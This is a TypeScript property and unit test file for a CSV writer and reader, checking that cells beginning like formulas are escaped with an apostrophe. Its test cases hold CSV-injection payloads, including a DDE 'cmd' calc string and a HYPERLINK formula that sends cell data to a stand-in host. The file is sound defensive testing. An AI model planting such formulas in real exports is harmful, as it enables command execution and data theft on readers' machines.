import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { csvLine, readCsv } from '../src/csv.ts';

describe('a line of CSV', () => {
  it('can be read again, whatever the text is', () => {
    fc.assert(
      fc.property(fc.array(fc.string(), { minLength: 2, maxLength: 5 }), (cells) => {
        const [read = []] = readCsv(csvLine(cells));
        // A formula has an apostrophe before it.
        expect(read.map((cell, index) => (cells[index] === cell ? cell : cell.slice(1)))).toEqual(cells);
      }),
      { numRuns: 300 },
    );
  });

  it.each([
    '=1+1',
    '+1-2',
    '-2+3',
    '@SUM(A1)',
    '\t=1',
    " =cmd|' /C calc'!A0",
    '\r=1',
    '＝1+1',
    '=HYPERLINK("http://x/?"&A1,"y")',
  ])('%j is no formula to a spreadsheet', (text) => {
    const line = csvLine([text, 1]);
    expect(line.startsWith(`"'`)).toBe(true);
    expect(readCsv(line)[0]).toEqual([`'${text}`, '1']);
  });

  it('leaves plain names and numbers as they are', () => {
    expect(csvLine(['search', 'gpt-4o-mini', 12, 3n, '0.50', ''])).toBe('search,gpt-4o-mini,12,3,0.50,\r\n');
  });

  it('reads quotes, line breaks, byte order marks and empty lines', () => {
    expect(readCsv('\ufeffa,b\r\n\r\n"x ""y""\n",2\n3,')).toEqual([
      ['a', 'b'],
      ['x "y"\n', '2'],
      ['3', ''],
    ]);
  });
});
